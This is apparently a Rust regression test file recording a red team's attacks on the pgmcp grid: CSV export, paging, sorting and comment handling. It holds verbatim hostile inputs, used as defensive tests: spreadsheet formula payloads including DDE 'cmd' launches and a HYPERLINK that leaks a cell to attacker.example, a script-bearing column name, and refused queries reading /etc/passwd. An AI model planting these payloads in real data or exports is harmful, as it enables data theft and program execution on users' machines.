//! A red team's attacks on the grid (`ui://pgmcp/grid`), end to end with
//! the grid's own test host (`fixtures/clients/grid_host.mjs`: the real
//! binary, the MCP SDK, ext-apps' `AppBridge`, the grid in headless
//! Chromium): hostile column names and values, shown, paged, sorted and
//! exported. What pgmcp resists stays as a regression; what got through
//! when written asserts the safe behaviour and fails until fixed.

use serde_json::json;

use crate::grid::{Case, host};
use crate::support::files;
use crate::support::served::write_config;

/// What a spreadsheet runs when it opens a CSV file: a field that starts
/// with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a
/// formula (OWASP "CSV injection").
const FORMULAS: [&str; 7] = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open\")",
    "\t=1+1",
    "\r=1+1",
];

/// A column name that is markup and a formula at once.
const HOSTILE_COLUMN: &str = "=1+1</script><script>parent.postMessage('x','*')</script>";

/// The fields of an RFC 4180 text, line by line.
fn csv_fields(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

/// Found when written, now resisted. The grid's CSV export quotes fields as RFC 4180
/// says, but leaves a value that starts with `=`, `+`, `-`, `@` (or a tab
/// or carriage return) as it is; opened in a spreadsheet, such a field is
/// a formula, and a row the database holds (which anyone who can write the
/// table chose) runs in the person's spreadsheet: `=HYPERLINK(...&A1...)`
/// sends another cell's value away on a click, DDE payloads
/// (`=cmd|' /C calc'!A0`) start programs where allowed. The column names
/// are exported the same way. Repro: SQLite `items.name` =
/// `=cmd|' /C calc'!A0`; `query` `SELECT id, name, score FROM items`;
/// *Export page as CSV*: the file holds `=cmd|' /C calc'!A0` as a field.
/// Safe: a field that starts with one of those characters is written with
/// a leading `'` (and quoted), as OWASP advises, or the export says it
/// is raw; the header too. (Values are still shown as text on screen, and
/// markup in a column name stays text: that part is resisted.)
#[test]
fn the_csv_export_holds_no_formula_a_spreadsheet_runs() {
    let names: Vec<String> = FORMULAS
        .iter()
        .map(|f| format!("'{}'", f.replace('\'', "''")))
        .collect();
    // 120 rows, every score different; names cycle through the formulas.
    let cases: Vec<String> = names
        .iter()
        .enumerate()
        .map(|(i, n)| format!("WHEN {i} THEN {n}"))
        .collect();
    let items = format!(
        "CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL, score INTEGER NOT NULL);
WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < 120)
INSERT INTO items SELECT i, CASE i % {} {} END, (i * 37) % 1000 FROM s;",
        FORMULAS.len(),
        cases.join(" ")
    );
    let (dir, file) = files::sqlite::fixture(&items);
    let config = write_config(dir.path(), json!({}));
    let case = Case {
        serve: vec![
            "serve".into(),
            "--config".into(),
            config,
            "--database".into(),
            files::sqlite::url(&file),
        ],
        envs: Vec::new(),
        by_id: Vec::new(),
        by_score: Vec::new(),
        refused: "SELECT load_extension('x')",
        refusal: "function load_extension() is not allowed",
    };
    let column = HOSTILE_COLUMN.replace('"', "\"\"");
    let plan = json!({
        "call": {"sql": format!("SELECT id, name AS \"{column}\", score FROM items ORDER BY id")},
        "refused": case.refused,
        "sort_column": 2,
        "out": dir.path(),
    });
    let report = host(&plan, &case);

    // Resisted: markup in a column name is shown as its characters, and
    // nothing is fetched.
    assert_eq!(report["headers"], json!(["id", HOSTILE_COLUMN, "score"]), "{report:#}");
    assert_eq!(report["network_requests"], json!([]), "{report:#}");
    assert!(
        report["calls"].as_array().unwrap().iter().all(|c| c["name"] == "query"),
        "{report:#}"
    );

    let csv = report["downloads"][0]
        .as_str()
        .unwrap_or_else(|| panic!("no export: {report:#}"));
    let rows = csv_fields(csv);
    assert_eq!(rows.len(), 51, "{csv}");
    let formulas: Vec<&String> = rows
        .iter()
        .flatten()
        .filter(|f| f.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(
        formulas.is_empty(),
        "{} exported fields a spreadsheet reads as formulas, e.g. {:?}",
        formulas.len(),
        formulas.iter().take(4).collect::<Vec<_>>()
    );
}

/// Found when written, now resisted. The grid decides a statement "reads", and so may
/// be paged and sorted by calling it again wrapped, from its first keyword
/// (`SELECT`, `WITH`, ...), not from the guard's verdict. A `SELECT` that
/// calls a function that writes is paged like any other: each *Next* or
/// sort runs the statement again, and the function with it, for every row
/// up to the page's end (`OFFSET` rows too). Under `confirm: "writes"`
/// the person is asked anew on each click with the wrapped statement (not
/// "only reads, nobody is asked", as the README says of the grid's pages);
/// under `confirm: "never"` (or `server.read_only: false` with the default
/// off) each click silently writes again. Repro: PostgreSQL, read-write,
/// `confirm: "never"`; `CREATE FUNCTION adopt() ... INSERT INTO log ...`;
/// the model's `SELECT id, adopt() AS logged FROM items ORDER BY id`; in
/// the grid, *Next*: `log` gains a row per row up to 101 more. Safe: the
/// grid pages only answers the server marks as read by the guard's
/// reading judge (e.g. `structuredContent` or `_meta` saying so), and
/// shows any other answer without a pager.
#[test]
fn the_grid_does_not_page_a_statement_that_writes() {
    use crate::support::pg;
    let db = pg::server().database();
    db.psql(
        "CREATE TABLE items (id int PRIMARY KEY, name text NOT NULL, score int NOT NULL); \
         INSERT INTO items SELECT i, 'item ' || i, (i * 37) % 1000 FROM generate_series(1, 120) i; \
         CREATE TABLE log (n int); \
         CREATE FUNCTION adopt() RETURNS int LANGUAGE plpgsql AS \
           $$ BEGIN INSERT INTO log VALUES (1); RETURN 1; END $$",
    );
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), json!({"server": {"read_only": false}, "confirm": "never"}));
    let case = Case {
        serve: vec!["serve".into(), "--config".into(), config],
        envs: vec![("PGMCP_PG_CONNSTRING".to_owned(), db.url.clone())],
        by_id: Vec::new(),
        by_score: Vec::new(),
        refused: "SELECT pg_read_file('/etc/passwd')",
        refusal: "pg_read_file",
    };
    let plan = json!({
        "call": {"sql": "SELECT id, name, adopt() AS logged FROM items ORDER BY id"},
        "refused": case.refused,
        "sort_column": 1,
        "out": dir.path(),
        "probe_paging": true,
    });
    let report = host(&plan, &case);
    let logged = db.psql("SELECT count(*) FROM log");
    assert_eq!(
        report["next_disabled"], true,
        "the grid offered to page a statement that writes; after the model's call and one Next, log holds {logged} \
         rows; the grid called: {}",
        report["calls"]
    );
}

/// Resisted. The grid wraps the model's statement between line breaks
/// (`SELECT * FROM (\n<sql>\n) AS pgmcp_grid ... LIMIT n OFFSET m`), so a
/// trailing `--` comment ends at the break; but SQLite also accepts a
/// `/*` comment left open at the end of the text, which then swallows the
/// grid's `)`, `LIMIT` and `OFFSET`. Neither runs anything the model's
/// call did not: the wrapped text no longer parses, the grid shows the
/// error and keeps its page, and its only call was the wrapped `query`.
#[test]
fn a_statement_ending_in_an_open_comment_pages_nothing_else() {
    let items = "CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL);
WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < 120)
INSERT INTO items SELECT i, 'item ' || i FROM s;";
    for sql in [
        "SELECT id, name FROM items ORDER BY id /* the rest is a comment",
        "SELECT id, name FROM items ORDER BY id -- the rest is a comment",
    ] {
        let (dir, file) = files::sqlite::fixture(items);
        let config = write_config(dir.path(), json!({}));
        let case = Case {
            serve: vec![
                "serve".into(),
                "--config".into(),
                config,
                "--database".into(),
                files::sqlite::url(&file),
            ],
            envs: Vec::new(),
            by_id: Vec::new(),
            by_score: Vec::new(),
            refused: "SELECT load_extension('x')",
            refusal: "function load_extension() is not allowed",
        };
        let plan = json!({
            "call": {"sql": sql},
            "refused": case.refused,
            "sort_column": 1,
            "out": dir.path(),
            "probe_paging": true,
        });
        let report = host(&plan, &case);
        let calls = report["calls"].as_array().unwrap();
        assert_eq!(calls.len(), 1, "{report:#}");
        let wrapped = calls[0]["arguments"]["sql"].as_str().unwrap();
        assert!(
            wrapped.starts_with("SELECT * FROM (\n") && wrapped.contains(sql),
            "{wrapped}"
        );
        let second = report["second_page"].as_array().unwrap();
        match sql.contains("/*") {
            // The grid's LIMIT was swallowed: an error, the first page kept.
            true => {
                assert_eq!(report["second_page"], report["first_page"], "{report:#}");
                assert!(
                    !report["error_after_next"].as_str().unwrap_or_default().is_empty(),
                    "{report:#}"
                );
            }
            // Ended at the line break: the next rows, 51 to 100.
            false => assert_eq!(second[0][0], "51", "{report:#}"),
        }
    }
}
